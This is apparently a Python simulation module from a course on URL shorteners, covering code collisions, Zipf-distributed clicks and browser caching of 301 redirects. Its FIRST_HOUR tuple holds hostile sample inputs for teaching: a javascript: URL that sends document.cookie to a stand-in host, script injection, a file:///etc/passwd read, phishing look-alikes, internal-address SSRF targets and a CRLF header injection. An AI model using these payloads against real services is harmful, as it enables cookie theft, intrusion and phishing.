"""Seeded traffic for the shortener: links, readers, and browsers that remember."""

import random
from collections.abc import Callable

from course.simulation.popularity import ZipfKeys


def random_url(rng: random.Random) -> str:
    """An address that no other draw will give (one in 2**64)."""
    return f"https://example.org/{rng.getrandbits(64):x}"


def first_collision(short_code: Callable[[str], str], rng: random.Random) -> int:
    """Shorten random links until two different ones share a code; returns how many links that took."""
    seen: set[str] = set()
    while True:
        code = short_code(random_url(rng))
        if code in seen:
            return len(seen) + 1
        seen.add(code)


def redirects(links: int, count: int, rng: random.Random) -> list[int]:
    """Which link each of ``count`` readers follows: popularity falls as 1/rank (Zipf), rank 0 is the favourite."""
    return ZipfKeys(links).sample(count, rng)


def clicks_counted(status: int, *, browsers: int, clicks_each: int) -> int:
    """How many of the clicks on one link reach a server that answers with ``status``.

    A browser keeps a permanent redirect (301) and asks again after any other one.
    """
    reached = 0
    for _ in range(browsers):
        kept = False
        for _ in range(clicks_each):
            reached += not kept
            kept = kept or status == 301
    return reached


FIRST_HOUR = (
    "https://www.rfc-editor.org/rfc/rfc6585",
    "https://example.org/menu?table=7#drinks",
    "javascript:fetch('https://cats.example/'+document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "https://go.example/loop",
    "https://go.example\\loop",
    "https://bank.example@cats.example/login",
    "https://xn--bnk-6cd.example/login",
    "http://192.168.0.1/reboot",
    "http://0x7f.1/admin",
    "https://example.org/\r\nSet-Cookie: session=1",
)
"""What strangers send to a shortener called go.example in its first hour: the first two are honest."""
